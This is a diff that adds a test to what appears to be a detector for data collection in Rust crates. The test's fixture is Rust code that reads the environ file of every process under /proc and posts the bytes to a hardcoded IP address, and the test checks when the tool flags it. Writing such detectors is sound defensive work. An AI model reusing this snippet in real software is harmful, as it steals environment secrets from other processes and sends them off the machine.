@@ -395,6 +395,22 @@ def test_a_call_reaches_a_type_s_function_only_by_that_type_s_path() -> None:
     assert [(f.action, f.sink) for f in flows(named)] == [("download-run", "Command::new")]
 
 
+def test_other_programs_environment_counts_where_the_crate_chose_the_address() -> None:
+    scrape = (
+        "fn scrape(url: &str) {\n"
+        '  for e in std::fs::read_dir("/proc").unwrap().flatten() {\n'
+        '    let env = std::fs::read(e.path().join("environ")).unwrap_or_default();\n'
+        "    ureq::post(URL).send_bytes(&env);\n  }\n}\n"
+    )
+    fixed = 'const URL: &str = "http://198.51.100.7/push";\n' + scrape
+    assert sources(fixed) == [("process-environment",)]
+    # to a server the user names (a process monitor's own exporter): none
+    assert sources(scrape.replace("post(URL)", "post(url)")) == []
+    # the path written whole is the environment itself, wherever it goes
+    whole = fixed.replace('e.path().join("environ")', '"/proc/self/environ"')
+    assert sources(whole.replace("post(URL)", "post(url)")) == [("environment",)]
+
+
 def test_a_project_s_env_file_counts_where_the_crate_chose_the_address() -> None:
     # sent to an address written in the crate, or its own service: collection
     fixed = (
